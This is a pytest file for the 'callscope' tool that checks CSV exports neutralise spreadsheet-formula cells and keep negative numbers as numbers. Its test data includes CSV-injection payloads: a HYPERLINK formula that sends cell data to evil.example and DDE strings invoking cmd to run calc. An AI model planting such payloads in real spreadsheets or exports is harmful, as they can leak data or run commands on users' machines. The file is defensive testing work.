"""CSV injection: actions.csv and `callscope export --format csv` neutralise formula-like text cells
and leave numbers (negative ones too) as numbers."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from callscope.config import Settings
from callscope.csvsafe import safe_cell
from callscope.reports.actions import find_actions, write_csv
from callscope.reports.selection import open_selection
from callscope.store import Store
from tests.fixtures.synthetic_corpus import build_store

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(cell: str):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+44", "-0.25e-3", -2.0, -7, 0.5, "plain text", "a=b", "", None])
def test_numbers_and_ordinary_text_are_kept(cell):
    assert safe_cell(cell) == cell


def read(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    return build_store(tmp_path_factory.mktemp("csv") / "callscope.duckdb", n=40, seed=11)


def test_actions_csv_neutralises_metadata_formulas(tmp_path: Path, store):
    con = open_selection(store)
    actions = find_actions(con, Settings().actions.rules)
    con.close()
    poisoned = [replace(actions[0], agent=FORMULAS[0], team=FORMULAS[1], customer_id=FORMULAS[3],
                        evidence=FORMULAS[2], predicted_csat=-1.25, evidence_at=-0.5)] + actions[1:]
    row = read(write_csv(poisoned, tmp_path / "actions.csv"))[0]
    assert row["agent"] == "'" + FORMULAS[0] and row["team"] == "'" + FORMULAS[1]
    assert row["customer_id"] == "'" + FORMULAS[3] and row["evidence"] == "'" + FORMULAS[2]
    assert row["predicted_csat"] == "-1.25" and row["evidence_at"] == "-0.5"


def test_csv_export_neutralises_text_and_keeps_negative_numbers(tmp_path: Path):
    path = build_store(tmp_path / "out", n=30, seed=12)
    with Store(path) as store:
        call_id = store.con.execute("SELECT min(call_id) FROM conversations").fetchone()[0]
        store.con.execute("UPDATE conversations SET agent = ?, team = ?, queue = ?, sentiment_score = -0.75 "
                          "WHERE call_id = ?", [FORMULAS[0], "-12", FORMULAS[4], call_id])
        store.export(tmp_path / "export", "csv")
    row = next(r for r in read(tmp_path / "export" / "conversations.csv") if r["call_id"] == call_id)
    assert row["agent"] == "'" + FORMULAS[0] and row["queue"] == "'" + FORMULAS[4]
    assert row["team"] == "-12" and float(row["sentiment_score"]) == -0.75
